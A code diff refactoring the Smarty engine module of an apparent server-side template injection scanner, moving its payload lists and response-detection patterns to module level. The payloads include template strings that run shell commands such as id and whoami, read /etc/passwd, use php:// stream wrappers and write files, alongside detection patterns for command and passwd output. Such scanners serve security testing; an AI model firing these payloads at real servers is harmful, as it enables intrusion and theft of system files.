@@ -9,10 +9,440 @@ License: MIT
 """
 
 import re
+import sys
 import urllib.parse
-from typing import List, Dict, Any, Optional
+from typing import Dict, Any, Iterator, Optional, Tuple
 
-from .base import BaseTemplateEngine, EngineResult, ConfidenceLevel, Payload
+from ._scan import _build_hyperscan_database, _hyperscan_hits, _matching, _scan_table, hyperscan
+from .base import (
+    BaseTemplateEngine, EngineResult, ConfidenceLevel, Payload, _ATTRIBUTE_ESCAPE_TABLE,
+    _CONFIDENCE_BY_RANK, _HTML_ESCAPE_TABLE, _JAVASCRIPT_ESCAPE_TABLE, _RANK_HIGH, _RANK_LOW,
+    _RANK_MEDIUM, _SUFFICIENT_EVIDENCE, _build_get_url, _build_post_data, _index_payloads,
+    _inject_fields,
+)
+
+
+# Smarty-specific patterns for detection
+_DETECTION_PATTERNS = {
+    'math_result': [
+        r'\b49\b',  # 7*7
+        r'\b64\b',  # 8*8
+        r'\b121\b', # 11*11
+    ],
+    'object_disclosure': [
+        r'Smarty_Internal',
+        r'Smarty_Resource',
+        r'Smarty_Security',
+        r'object\(Smarty',
+        r'class.*?Smarty',
+    ],
+    'variable_disclosure': [
+        r'\$smarty\.',
+        r'smarty\.version',
+        r'smarty\.template',
+        r'smarty\.current_dir',
+        r'array\(\d+\)\s*{',
+    ],
+    'function_execution': [
+        r'phpinfo\(\)',
+        r'system\(',
+        r'exec\(',
+        r'shell_exec\(',
+        r'passthru\(',
+    ],
+    'static_call': [
+        r'::.*?\(',
+        r'self::',
+        r'parent::',
+        r'static::',
+    ]
+}
+
+# Smarty-specific error messages
+_SMARTY_ERRORS = [
+    'Smarty_Compiler_Exception',
+    'SmartyException',
+    'Smarty_Internal_ParseTree',
+    'Unable to load template file',
+    'Syntax error in template',
+    'Unknown tag',
+    'Unknown modifier',
+    'Undefined variable',
+    'Call to undefined function',
+]
+
+# PHP-specific indicators
+_PHP_INDICATORS = [
+    'PHP Version',
+    'PHP/.*?Server',
+    'phpinfo()',
+    'Zend Engine',
+    'System.*?Linux',
+    'root:x:0:0',  # /etc/passwd content
+    'uid=',  # id command output
+    'gid=',  # id command output
+]
+
+# Successful $smarty variable access
+_SMARTY_PATTERNS = [
+    r'Smarty.*?\d+\.\d+',  # Version string
+    r'smarty.*?version.*?\d+',
+    r'template.*?dir',
+    r'compile.*?dir',
+    r'cache.*?dir',
+]
+
+# PHP constant access
+_CONST_PATTERNS = [
+    r'PHP.*?\d+\.\d+',  # PHP version
+    r'Linux|Windows|Darwin',  # OS
+    r'apache|nginx|cli',  # SAPI
+    r'/.*?/',  # File paths
+]
+
+# Server variable access
+_SERVER_PATTERNS = [
+    r'Apache|nginx|IIS',  # Server software
+    r'GET|POST|PUT|DELETE',  # HTTP methods
+    r'HTTP/1\.[01]',  # HTTP version
+    r'\d+\.\d+\.\d+\.\d+',  # IP addresses
+]
+
+# File inclusion results
+_FILE_PATTERNS = [
+    r'root:x:0:0',  # /etc/passwd
+    r'bin/bash',    # /etc/passwd
+    r'daemon:x:',   # /etc/passwd
+    r'\[.*?\]',     # Config file sections
+]
+
+# Every pattern is compiled once, at import.  Plain-text patterns, and the
+# leading text of the others, become substring checks on the lower-cased
+# response
+_DETECTION_TABLES = {category: _scan_table(patterns) for category, patterns in _DETECTION_PATTERNS.items()}
+_SMARTY_ERROR_TABLE = _scan_table(_SMARTY_ERRORS)
+_PHP_INDICATOR_TABLE = _scan_table(_PHP_INDICATORS)
+_SMARTY_PATTERN_TABLE = _scan_table(_SMARTY_PATTERNS)
+_CONST_PATTERN_TABLE = _scan_table(_CONST_PATTERNS)
+_SERVER_PATTERN_TABLE = _scan_table(_SERVER_PATTERNS)
+_FILE_PATTERN_TABLE = _scan_table(_FILE_PATTERNS, flags=0)
+
+
+# Every scan table by name
+_SCAN_TABLES: Dict[str, tuple] = {
+    **_DETECTION_TABLES,
+    'smarty_error': _SMARTY_ERROR_TABLE,
+    'php_indicator': _PHP_INDICATOR_TABLE,
+    'smarty_pattern': _SMARTY_PATTERN_TABLE,
+    'const_pattern': _CONST_PATTERN_TABLE,
+    'server_pattern': _SERVER_PATTERN_TABLE,
+    'file_pattern': _FILE_PATTERN_TABLE,
+}
+
+# Literal strings some payloads print, with their evidence message
+_TEST_STRINGS = tuple(
+    (test_str, f"Test string executed: {test_str}") for test_str in ('TESTSTRING', 'teststring', 'Test')
+)
+
+# What each string modifier turns TESTSTRING/test into
+_STRING_MODIFIER_RESULTS = (('upper', 'TESTSTRING'), ('lower', 'teststring'), ('capitalize', 'Test'))
+
+# A reflected payload is dismissed as unexecuted unless one of these is on the page
+_REFLECTION_MARKERS = ('smarty', 'php')
+
+# {assign var='name' value='text'}; \s+ between the attributes instead of
+# .*? keeps the search from backtracking through the rest of the payload
+_ASSIGN_RE = re.compile(r"assign\s+var='(\w+)'\s+value='([^']*)'")
+
+# Payload feature bits selecting which payload-specific indicator groups run
+_CHECK_MATH = 1 << 0
+_CHECK_SMARTY_VAR = 1 << 1
+_CHECK_CONST = 1 << 2
+_CHECK_SERVER = 1 << 3
+_CHECK_STRING_MODIFIER = 1 << 4
+_CHECK_ASSIGN = 1 << 5
+_CHECK_TEST_STRING = 1 << 6
+_CHECK_FILE = 1 << 7
+
+
+def _payload_checks(payload: str) -> int:
+    """Compute the indicator-group bitmask for a payload."""
+    payload_lower = payload.lower()
+    checks = 0
+    if any(p in payload for p in ('7*7', '8*8', '11*11')):
+        checks |= _CHECK_MATH
+    if '$smarty' in payload:
+        checks |= _CHECK_SMARTY_VAR
+    if 'smarty.const' in payload:
+        checks |= _CHECK_CONST
+    if 'smarty.server' in payload:
+        checks |= _CHECK_SERVER
+    if any(func in payload_lower for func in ('upper', 'lower', 'capitalize')) and 'TESTSTRING' in payload:
+        checks |= _CHECK_STRING_MODIFIER
+    if '{assign' in payload:
+        checks |= _CHECK_ASSIGN
+    if any(test_str in payload for test_str in ('TESTSTRING', 'teststring', 'Test')):
+        checks |= _CHECK_TEST_STRING
+    if any(func in payload for func in ('include', 'fetch', 'file_get_contents')):
+        checks |= _CHECK_FILE
+    return checks
+
+
+# Tables Hyperscan matches: (table, case-insensitive, plain text).
+# math_result is left to re (Hyperscan has no Unicode \b)
+_HYPERSCAN_TABLES = (
+    (_DETECTION_TABLES['object_disclosure'], True, False),
+    (_DETECTION_TABLES['variable_disclosure'], True, False),
+    (_DETECTION_TABLES['function_execution'], True, False),
+    (_SMARTY_ERROR_TABLE, True, False),
+    (_PHP_INDICATOR_TABLE, True, False),
+    (_SMARTY_PATTERN_TABLE, True, False),
+    (_CONST_PATTERN_TABLE, True, False),
+    (_SERVER_PATTERN_TABLE, True, False),
+    (_FILE_PATTERN_TABLE, False, False),
+)
+
+# With Hyperscan installed, all of those are matched in one scan of the response
+_HYPERSCAN_DATABASE = _build_hyperscan_database(_HYPERSCAN_TABLES) if hyperscan is not None else None
+
+
+# Payload type and context names are shared by every Payload and used as
+# index keys, so keep a single interned copy of each
+_T_MATH = sys.intern("math")
+_T_VARIABLE_ACCESS = sys.intern("variable_access")
+_T_CONSTANT_ACCESS = sys.intern("constant_access")
+_T_SERVER_ACCESS = sys.intern("server_access")
+_T_FUNCTION_CALL = sys.intern("function_call")
+_T_STATIC_CALL = sys.intern("static_call")
+_T_SELF_REFERENCE = sys.intern("self_reference")
+_T_MODIFIER = sys.intern("modifier")
+_T_ADVANCED = sys.intern("advanced")
+_C_HTML = sys.intern("html")
+_C_URL = sys.intern("url")
+_C_ATTRIBUTE = sys.intern("attribute")
+_ENGINE_NAME = sys.intern("smarty")
+
+
+# Basic math operations
+_MATH_PAYLOADS = (
+    "{7*7}",
+    "{8*8}",
+    "{11*11}",
+    "{math equation='7*7'}",
+    "{math equation='8*8'}",
+    "{math equation='x*y' x=7 y=7}",
+    "{$smarty.const.PHP_VERSION*0+49}",
+)
+
+# Variable access and disclosure
+_VARIABLE_PAYLOADS = (
+    "{$smarty}",
+    "{$smarty.version}",
+    "{$smarty.template}",
+    "{$smarty.current_dir}",
+    "{$smarty.template_dir}",
+    "{$smarty.compile_dir}",
+    "{$smarty.config_dir}",
+    "{$smarty.cache_dir}",
+    "{$smarty.request}",
+    "{$smarty.session}",
+    "{$smarty.server}",
+    "{$smarty.env}",
+    "{$smarty.get}",
+    "{$smarty.post}",
+    "{$smarty.cookies}",
+    "{$smarty.const}",
+    "{$smarty.capture}",
+    "{$smarty.config}",
+    "{$smarty.section}",
+    "{$smarty.foreach}",
+)
+
+# PHP constants access
+_CONST_PAYLOADS = (
+    "{$smarty.const.PHP_VERSION}",
+    "{$smarty.const.PHP_OS}",
+    "{$smarty.const.PHP_SAPI}",
+    "{$smarty.const.__FILE__}",
+    "{$smarty.const.__DIR__}",
+    "{$smarty.const.DIRECTORY_SEPARATOR}",
+    "{$smarty.const.PATH_SEPARATOR}",
+    "{$smarty.const.PHP_EOL}",
+)
+
+# Server variable access
+_SERVER_PAYLOADS = (
+    "{$smarty.server.SERVER_SOFTWARE}",
+    "{$smarty.server.SERVER_NAME}",
+    "{$smarty.server.REQUEST_METHOD}",
+    "{$smarty.server.REQUEST_URI}",
+    "{$smarty.server.SCRIPT_NAME}",
+    "{$smarty.server.QUERY_STRING}",
+    "{$smarty.server.DOCUMENT_ROOT}",
+    "{$smarty.server.HTTP_HOST}",
+    "{$smarty.server.HTTP_USER_AGENT}",
+    "{$smarty.server.REMOTE_ADDR}",
+    "{$smarty.server.REMOTE_HOST}",
+    "{$smarty.server.REMOTE_USER}",
+)
+
+# Function calls
+_FUNCTION_PAYLOADS = (
+    # Built-in functions
+    "{php}echo 'TESTSTRING';{/php}",
+    "{php}phpinfo();{/php}",
+    "{php}print_r(get_defined_vars());{/php}",
+    "{php}var_dump($smarty);{/php}",
+    "{php}echo PHP_VERSION;{/php}",
+    "{php}echo php_uname();{/php}",
+    
+    # Assign function
+    "{assign var='test' value='TESTSTRING'}{$test}",
+    "{assign var='calc' value=7*7}{$calc}",
+    
+    # Eval-like functionality
+    "{eval var='7*7'}",
+    "{eval var='phpinfo()'}",
+    
+    # Include/fetch functions
+    "{include file='/etc/passwd'}",
+    "{fetch file='/etc/passwd'}",
+    "{include file='file:///etc/passwd'}",
+    "{fetch file='file:///etc/passwd'}",
+)
+
+# Static method calls (Smarty 3+)
+_STATIC_PAYLOADS = (
+    "{Smarty_Internal_Write_File::writeFile($smarty.template_dir|cat:'/test.txt','TESTSTRING',false)}",
+    "{system('id')}",
+    "{exec('whoami')}",
+    "{shell_exec('cat /etc/passwd')}",
+    "{passthru('ls -la')}",
+    "{file_get_contents('/etc/passwd')}",
+    "{readfile('/etc/passwd')}",
+    "{highlight_file('/etc/passwd')}",
+    "{show_source('/etc/passwd')}",
+    "{php_uname()}",
+    "{phpinfo()}",
+    "{get_current_user()}",
+    "{getcwd()}",
+    "{getmyuid()}",
+    "{getmygid()}",
+    "{getmypid()}",
+)
+
+# Self-referencing and class manipulation
+_SELF_PAYLOADS = (
+    "{self::getStreamVariable($smarty,'file:///etc/passwd')}",
+    "{self::function('system')('id')}",
+    "{Smarty_Internal_Template::clearCache()}",
+    "{Smarty_Security::isTrustedStaticClassAccess()}",
+    "{$smarty->getTemplateVars()}",
+    "{$smarty->getConfigVars()}",
+    "{$smarty->getStreamVariable('string:TESTSTRING')}",
+)
+
+# Modifier exploitation
+_MODIFIER_PAYLOADS = (
+    "{7*7|var_dump}",
+    "{'TESTSTRING'|upper}",
+    "{'TESTSTRING'|lower}",
+    "{'test'|capitalize}",
+    "{'test'|count_characters}",
+    "{'test'|strlen}",
+    "{'/etc/passwd'|file_get_contents}",
+    "{'ls -la'|system}",
+    "{'id'|exec}",
+    "{'whoami'|shell_exec}",
+    "{'cat /etc/passwd'|passthru}",
+    "{$smarty.const.PHP_VERSION|var_dump}",
+)
+
+# URL-encoded payloads
+_URL_PAYLOADS = (
+    "%7B7%2A7%7D",  # {7*7}
+    "%7B%24smarty%7D",  # {$smarty}
+    "%7B%24smarty.version%7D",  # {$smarty.version}
+)
+
+# Context-specific payloads
+_ATTR_PAYLOADS = (
+    "x{7*7}",
+    "{7*7}x",
+    "x{$smarty}",
+    "{$smarty}x",
+)
+
+# Advanced exploitation techniques
+_ADVANCED_PAYLOADS = (
+    # Template inheritance and blocks
+    "{block name='test'}TESTSTRING{/block}",
+    "{extends file='string:TESTSTRING'}",
+    
+    # Configuration access
+    "{config_load file='/etc/passwd'}",
+    "{#test#}",
+    
+    # Section and foreach with data access
+    "{section name=test loop=$smarty.get}{$smarty.get[test]}{/section}",
+    "{foreach from=$smarty.post item=item}{$item}{/foreach}",
+    
+    # Capture and manipulation
+    "{capture name='test'}TESTSTRING{/capture}{$smarty.capture.test}",
+    "{capture assign='var'}TESTSTRING{/capture}{$var}",
+    
+    # Error triggering for information disclosure
+    "{$undefined_variable}",
+    "{undefined_function()}",
+    "{$smarty.undefined_property}",
+    "{include file='nonexistent_file'}",
+    "{fetch file='nonexistent_file'}",
+    
+    # Direct object manipulation
+    "{$smarty->clearAllCache()}",
+    "{$smarty->clearCache()}",
+    "{$smarty->getTemplateDir()}",
+    "{$smarty->getCompileDir()}",
+    
+    # Stream wrappers
+    "{include file='php://filter/read=convert.base64-encode/resource=/etc/passwd'}",
+    "{fetch file='php://input'}",
+    "{include file='data://text/plain;base64,VEVTVFNUUklORw=='}",
+    
+    # Resource access
+    "{$smarty->createTemplate('string:TESTSTRING')->fetch()}",
+    "{$smarty->getRegisteredObject('test')}",
+)
+
+_PAYLOAD_GROUPS = (
+    (_MATH_PAYLOADS, _T_MATH, _C_HTML, "Basic mathematical operation"),
+    (_VARIABLE_PAYLOADS, _T_VARIABLE_ACCESS, _C_HTML, "Smarty variable access"),
+    (_CONST_PAYLOADS, _T_CONSTANT_ACCESS, _C_HTML, "PHP constant access"),
+    (_SERVER_PAYLOADS, _T_SERVER_ACCESS, _C_HTML, "Server variable access"),
+    (_FUNCTION_PAYLOADS, _T_FUNCTION_CALL, _C_HTML, "Function call exploitation"),
+    (_STATIC_PAYLOADS, _T_STATIC_CALL, _C_HTML, "Static method call"),
+    (_SELF_PAYLOADS, _T_SELF_REFERENCE, _C_HTML, "Self-referencing exploitation"),
+    (_MODIFIER_PAYLOADS, _T_MODIFIER, _C_HTML, "Modifier exploitation"),
+    (_URL_PAYLOADS, _T_MATH, _C_URL, "URL-encoded payload"),
+    (_ATTR_PAYLOADS, _T_MATH, _C_ATTRIBUTE, "Attribute context payload"),
+    (_ADVANCED_PAYLOADS, _T_ADVANCED, _C_HTML, "Advanced Smarty exploitation"),
+)
+
+# Payloads never depend on the instance; build them once per process
+_PAYLOADS: Tuple[Payload, ...] = tuple(
+    Payload(payload=payload, type=payload_type, context=context, description=description)
+    for payloads, payload_type, context, description in _PAYLOAD_GROUPS
+    for payload in payloads
+)
+
+
+# Masks for the built-in payloads are computed once; ad-hoc payloads fall
+# back to _payload_checks at analysis time.
+_PAYLOAD_CHECKS: Dict[str, int] = {p.payload: _payload_checks(p.payload) for p in _PAYLOADS}
+
+# Context and type lookups become a single dict access
+_PAYLOADS_BY_CONTEXT = _index_payloads(_PAYLOADS, 'context')
+_PAYLOADS_BY_TYPE = _index_payloads(_PAYLOADS, 'type')
 
 
 class SmartyEngine(BaseTemplateEngine):
@@ -25,330 +455,14 @@ class SmartyEngine(BaseTemplateEngine):
     
     def __init__(self, config):
         super().__init__(config)
-        self.name = "smarty"
+        self.name = _ENGINE_NAME
         self.description = "Smarty template engine (PHP)"
         self.payloads = self._load_payloads()
-        
-        # Smarty-specific patterns for detection
-        self.detection_patterns = {
-            'math_result': [
-                r'\b49\b',  # 7*7
-                r'\b64\b',  # 8*8
-                r'\b121\b', # 11*11
-            ],
-            'object_disclosure': [
-                r'Smarty_Internal',
-                r'Smarty_Resource',
-                r'Smarty_Security',
-                r'object\(Smarty',
-                r'class.*?Smarty',
-            ],
-            'variable_disclosure': [
-                r'\$smarty\.',
-                r'smarty\.version',
-                r'smarty\.template',
-                r'smarty\.current_dir',
-                r'array\(\d+\)\s*{',
-            ],
-            'function_execution': [
-                r'phpinfo\(\)',
-                r'system\(',
-                r'exec\(',
-                r'shell_exec\(',
-                r'passthru\(',
-            ],
-            'static_call': [
-                r'::.*?\(',
-                r'self::',
-                r'parent::',
-                r'static::',
-            ]
-        }
+        self.detection_patterns = _DETECTION_PATTERNS
     
-    def _load_payloads(self) -> List[Payload]:
-        """Load Smarty-specific SSTI payloads."""
-        payloads = []
-        
-        # Basic math operations
-        math_payloads = [
-            "{7*7}",
-            "{8*8}",
-            "{11*11}",
-            "{math equation='7*7'}",
-            "{math equation='8*8'}",
-            "{math equation='x*y' x=7 y=7}",
-            "{$smarty.const.PHP_VERSION*0+49}",
-        ]
-        
-        for payload in math_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="math",
-                context="html",
-                description="Basic mathematical operation"
-            ))
-        
-        # Variable access and disclosure
-        variable_payloads = [
-            "{$smarty}",
-            "{$smarty.version}",
-            "{$smarty.template}",
-            "{$smarty.current_dir}",
-            "{$smarty.template_dir}",
-            "{$smarty.compile_dir}",
-            "{$smarty.config_dir}",
-            "{$smarty.cache_dir}",
-            "{$smarty.request}",
-            "{$smarty.session}",
-            "{$smarty.server}",
-            "{$smarty.env}",
-            "{$smarty.get}",
-            "{$smarty.post}",
-            "{$smarty.cookies}",
-            "{$smarty.const}",
-            "{$smarty.capture}",
-            "{$smarty.config}",
-            "{$smarty.section}",
-            "{$smarty.foreach}",
-        ]
-        
-        for payload in variable_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="variable_access",
-                context="html",
-                description="Smarty variable access"
-            ))
-        
-        # PHP constants access
-        const_payloads = [
-            "{$smarty.const.PHP_VERSION}",
-            "{$smarty.const.PHP_OS}",
-            "{$smarty.const.PHP_SAPI}",
-            "{$smarty.const.__FILE__}",
-            "{$smarty.const.__DIR__}",
-            "{$smarty.const.DIRECTORY_SEPARATOR}",
-            "{$smarty.const.PATH_SEPARATOR}",
-            "{$smarty.const.PHP_EOL}",
-        ]
-        
-        for payload in const_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="constant_access",
-                context="html",
-                description="PHP constant access"
-            ))
-        
-        # Server variable access
-        server_payloads = [
-            "{$smarty.server.SERVER_SOFTWARE}",
-            "{$smarty.server.SERVER_NAME}",
-            "{$smarty.server.REQUEST_METHOD}",
-            "{$smarty.server.REQUEST_URI}",
-            "{$smarty.server.SCRIPT_NAME}",
-            "{$smarty.server.QUERY_STRING}",
-            "{$smarty.server.DOCUMENT_ROOT}",
-            "{$smarty.server.HTTP_HOST}",
-            "{$smarty.server.HTTP_USER_AGENT}",
-            "{$smarty.server.REMOTE_ADDR}",
-            "{$smarty.server.REMOTE_HOST}",
-            "{$smarty.server.REMOTE_USER}",
-        ]
-        
-        for payload in server_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="server_access",
-                context="html",
-                description="Server variable access"
-            ))
-        
-        # Function calls
-        function_payloads = [
-            # Built-in functions
-            "{php}echo 'TESTSTRING';{/php}",
-            "{php}phpinfo();{/php}",
-            "{php}print_r(get_defined_vars());{/php}",
-            "{php}var_dump($smarty);{/php}",
-            "{php}echo PHP_VERSION;{/php}",
-            "{php}echo php_uname();{/php}",
-            
-            # Assign function
-            "{assign var='test' value='TESTSTRING'}{$test}",
-            "{assign var='calc' value=7*7}{$calc}",
-            
-            # Eval-like functionality
-            "{eval var='7*7'}",
-            "{eval var='phpinfo()'}",
-            
-            # Include/fetch functions
-            "{include file='/etc/passwd'}",
-            "{fetch file='/etc/passwd'}",
-            "{include file='file:///etc/passwd'}",
-            "{fetch file='file:///etc/passwd'}",
-        ]
-        
-        for payload in function_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="function_call",
-                context="html",
-                description="Function call exploitation"
-            ))
-        
-        # Static method calls (Smarty 3+)
-        static_payloads = [
-            "{Smarty_Internal_Write_File::writeFile($smarty.template_dir|cat:'/test.txt','TESTSTRING',false)}",
-            "{system('id')}",
-            "{exec('whoami')}",
-            "{shell_exec('cat /etc/passwd')}",
-            "{passthru('ls -la')}",
-            "{file_get_contents('/etc/passwd')}",
-            "{readfile('/etc/passwd')}",
-            "{highlight_file('/etc/passwd')}",
-            "{show_source('/etc/passwd')}",
-            "{php_uname()}",
-            "{phpinfo()}",
-            "{get_current_user()}",
-            "{getcwd()}",
-            "{getmyuid()}",
-            "{getmygid()}",
-            "{getmypid()}",
-        ]
-        
-        for payload in static_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="static_call",
-                context="html",
-                description="Static method call"
-            ))
-        
-        # Self-referencing and class manipulation
-        self_payloads = [
-            "{self::getStreamVariable($smarty,'file:///etc/passwd')}",
-            "{self::function('system')('id')}",
-            "{Smarty_Internal_Template::clearCache()}",
-            "{Smarty_Security::isTrustedStaticClassAccess()}",
-            "{$smarty->getTemplateVars()}",
-            "{$smarty->getConfigVars()}",
-            "{$smarty->getStreamVariable('string:TESTSTRING')}",
-        ]
-        
-        for payload in self_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="self_reference",
-                context="html",
-                description="Self-referencing exploitation"
-            ))
-        
-        # Modifier exploitation
-        modifier_payloads = [
-            "{7*7|var_dump}",
-            "{'TESTSTRING'|upper}",
-            "{'TESTSTRING'|lower}",
-            "{'test'|capitalize}",
-            "{'test'|count_characters}",
-            "{'test'|strlen}",
-            "{'/etc/passwd'|file_get_contents}",
-            "{'ls -la'|system}",
-            "{'id'|exec}",
-            "{'whoami'|shell_exec}",
-            "{'cat /etc/passwd'|passthru}",
-            "{$smarty.const.PHP_VERSION|var_dump}",
-        ]
-        
-        for payload in modifier_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="modifier",
-                context="html",
-                description="Modifier exploitation"
-            ))
-        
-        # URL-encoded payloads
-        url_payloads = [
-            "%7B7%2A7%7D",  # {7*7}
-            "%7B%24smarty%7D",  # {$smarty}
-            "%7B%24smarty.version%7D",  # {$smarty.version}
-        ]
-        
-        for payload in url_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="math",
-                context="url",
-                description="URL-encoded payload"
-            ))
-        
-        # Context-specific payloads
-        attr_payloads = [
-            "x{7*7}",
-            "{7*7}x",
-            "x{$smarty}",
-            "{$smarty}x",
-        ]
-        
-        for payload in attr_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="math",
-                context="attribute",
-                description="Attribute context payload"
-            ))
-        
-        # Advanced exploitation techniques
-        advanced_payloads = [
-            # Template inheritance and blocks
-            "{block name='test'}TESTSTRING{/block}",
-            "{extends file='string:TESTSTRING'}",
-            
-            # Configuration access
-            "{config_load file='/etc/passwd'}",
-            "{#test#}",
-            
-            # Section and foreach with data access
-            "{section name=test loop=$smarty.get}{$smarty.get[test]}{/section}",
-            "{foreach from=$smarty.post item=item}{$item}{/foreach}",
-            
-            # Capture and manipulation
-            "{capture name='test'}TESTSTRING{/capture}{$smarty.capture.test}",
-            "{capture assign='var'}TESTSTRING{/capture}{$var}",
-            
-            # Error triggering for information disclosure
-            "{$undefined_variable}",
-            "{undefined_function()}",
-            "{$smarty.undefined_property}",
-            "{include file='nonexistent_file'}",
-            "{fetch file='nonexistent_file'}",
-            
-            # Direct object manipulation
-            "{$smarty->clearAllCache()}",
-            "{$smarty->clearCache()}",
-            "{$smarty->getTemplateDir()}",
-            "{$smarty->getCompileDir()}",
-            
-            # Stream wrappers
-            "{include file='php://filter/read=convert.base64-encode/resource=/etc/passwd'}",
-            "{fetch file='php://input'}",
-            "{include file='data://text/plain;base64,VEVTVFNUUklORw=='}",
-            
-            # Resource access
-            "{$smarty->createTemplate('string:TESTSTRING')->fetch()}",
-            "{$smarty->getRegisteredObject('test')}",
-        ]
-        
-        for payload in advanced_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="advanced",
-                context="html",
-                description="Advanced Smarty exploitation"
-            ))
-        
-        return payloads
+    def _load_payloads(self) -> Tuple[Payload, ...]:
+        """Return the shared Smarty SSTI payloads."""
+        return _PAYLOADS
     
     async def test_payload(self, url: str, payload: str, **kwargs) -> EngineResult:
         """
@@ -357,7 +471,8 @@ class SmartyEngine(BaseTemplateEngine):
         Args:
             url: Target URL
             payload: Payload to test
-            **kwargs: Additional arguments (http_client, method, data, headers)
+            **kwargs: Additional arguments (http_client, method, data, headers,
+                checks, inject_fields)
         
         Returns:
             EngineResult with test results
@@ -381,42 +496,22 @@ class SmartyEngine(BaseTemplateEngine):
             # Determine injection point and method
             if method.upper() == 'GET':
                 # URL parameter injection
-                if '?' in url:
-                    test_url = url.replace('INJECT', payload)
-                    if 'INJECT' not in url:
-                        # Add payload to first parameter
-                        if '=' in url:
-                            test_url = re.sub(r'(=)([^&]*)', f'\\1{payload}', url, count=1)
-                        else:
-                            test_url = f"{url}&test={payload}"
-                    else:
-                        test_url = url.replace('INJECT', payload)
-                else:
-                    test_url = f"{url}?test={payload}"
+                test_url = _build_get_url(url, payload)
                 
                 response = await http_client.get(test_url, headers=headers)
             else:
-                # POST data injection
-                if data:
-                    # Inject into existing data
-                    test_data = data.copy()
-                    if 'INJECT' in str(test_data):
-                        test_data = {k: v.replace('INJECT', payload) if isinstance(v, str) else v 
-                                   for k, v in test_data.items()}
-                    else:
-                        # Add payload to first field or create test field
-                        if test_data:
-                            first_key = next(iter(test_data))
-                            test_data[first_key] = payload
-                        else:
-                            test_data['test'] = payload
-                else:
-                    test_data = {'test': payload}
+                # POST data injection; callers testing many payloads against
+                # the same form can pass the marked fields in once
+                inject_fields = kwargs.get('inject_fields')
+                if inject_fields is None:
+                    inject_fields = _inject_fields(data)
+                test_data = _build_post_data(data, payload, inject_fields)
                 
                 response = await http_client.post(url, data=test_data, headers=headers)
             
             # Analyze the response
-            return self.analyze_response("", payload, response.get('text', ''))
+            return self.analyze_response("", payload, response.get('text', ''),
+                                         checks=kwargs.get('checks'))
             
         except Exception as e:
             return EngineResult(
@@ -428,14 +523,18 @@ class SmartyEngine(BaseTemplateEngine):
                 engine=self.name
             )
     
-    def analyze_response(self, original_response: str, payload: str, response: str) -> EngineResult:
+    def analyze_response(self, original_response: str, payload: str, response: str,
+                         checks: Optional[int] = None) -> EngineResult:
         """
         Analyze response for Smarty SSTI indicators.
         
+        Only the first ``max_scan_bytes`` characters are scanned.
+        
         Args:
             original_response: Original response (baseline)
             payload: Payload that was sent
             response: Response to analyze
+            checks: Precomputed indicator-group bitmask for the payload
         
         Returns:
             EngineResult with analysis results
@@ -445,13 +544,19 @@ class SmartyEngine(BaseTemplateEngine):
                 is_vulnerable=False,
                 confidence=ConfidenceLevel.LOW,
                 payload=payload,
-                response=response,
+                response="",
                 evidence="Empty response",
                 engine=self.name
             )
         
+        response = response[:self.max_scan_bytes]
+        
+        # Lower-case once; every case-insensitive check below reuses these
+        response_lower = response.lower()
+        payload_lower = payload.lower()
+        
         # Check for direct payload reflection (likely not vulnerable)
-        if payload in response and not any(pattern in response.lower() for pattern in ['smarty', 'php']):
+        if payload in response and not any(marker in response_lower for marker in _REFLECTION_MARKERS):
             return EngineResult(
                 is_vulnerable=False,
                 confidence=ConfidenceLevel.LOW,
@@ -461,194 +566,126 @@ class SmartyEngine(BaseTemplateEngine):
                 engine=self.name
             )
         
+        if checks is None:
+            checks = _PAYLOAD_CHECKS.get(payload)
+            if checks is None:
+                checks = _payload_checks(payload)
+        
         evidence_parts = []
-        confidence = ConfidenceLevel.LOW
+        rank = _RANK_LOW
         is_vulnerable = False
         
-        # Math operation detection
-        if any(p in payload for p in ['7*7', '8*8', '11*11']):
-            for pattern in self.detection_patterns['math_result']:
-                if re.search(pattern, response):
-                    evidence_parts.append(f"Mathematical operation executed: found {pattern}")
-                    confidence = ConfidenceLevel.HIGH
-                    is_vulnerable = True
-                    break
-        
-        # Object disclosure detection
-        for pattern in self.detection_patterns['object_disclosure']:
-            if re.search(pattern, response, re.IGNORECASE):
-                evidence_parts.append(f"Object disclosure detected: {pattern}")
-                confidence = max(confidence, ConfidenceLevel.HIGH)
-                is_vulnerable = True
-        
-        # Variable disclosure detection
-        for pattern in self.detection_patterns['variable_disclosure']:
-            if re.search(pattern, response, re.IGNORECASE):
-                evidence_parts.append(f"Variable disclosure detected: {pattern}")
-                confidence = max(confidence, ConfidenceLevel.MEDIUM)
-                is_vulnerable = True
-        
-        # Function execution detection
-        for pattern in self.detection_patterns['function_execution']:
-            if re.search(pattern, response, re.IGNORECASE):
-                evidence_parts.append(f"Function execution detected: {pattern}")
-                confidence = max(confidence, ConfidenceLevel.HIGH)
-                is_vulnerable = True
-        
-        # Smarty-specific error messages
-        smarty_errors = [
-            'Smarty_Compiler_Exception',
-            'SmartyException',
-            'Smarty_Internal_ParseTree',
-            'Unable to load template file',
-            'Syntax error in template',
-            'Unknown tag',
-            'Unknown modifier',
-            'Undefined variable',
-            'Call to undefined function',
-        ]
+        # Strongest indicators come first; stop at _SUFFICIENT_EVIDENCE
+        for level, message in self._iter_indicators(checks, payload, payload_lower,
+                                                     response, response_lower):
+            evidence_parts.append(message)
+            if level > rank:
+                rank = level
+            is_vulnerable = True
+            if rank == _RANK_HIGH and len(evidence_parts) >= _SUFFICIENT_EVIDENCE:
+                break
         
-        for error in smarty_errors:
-            if re.search(error, response, re.IGNORECASE):
-                evidence_parts.append(f"Smarty error detected: {error}")
-                confidence = max(confidence, ConfidenceLevel.MEDIUM)
-                is_vulnerable = True
+        # Compile evidence
+        if evidence_parts:
+            evidence = "Smarty SSTI detected: " + "; ".join(evidence_parts)
+        else:
+            evidence = "No Smarty SSTI indicators found"
+            
+        return EngineResult(
+            is_vulnerable=is_vulnerable,
+            confidence=_CONFIDENCE_BY_RANK[rank],
+            payload=payload,
+            response=response[:500],  # Limit response size
+            evidence=evidence,
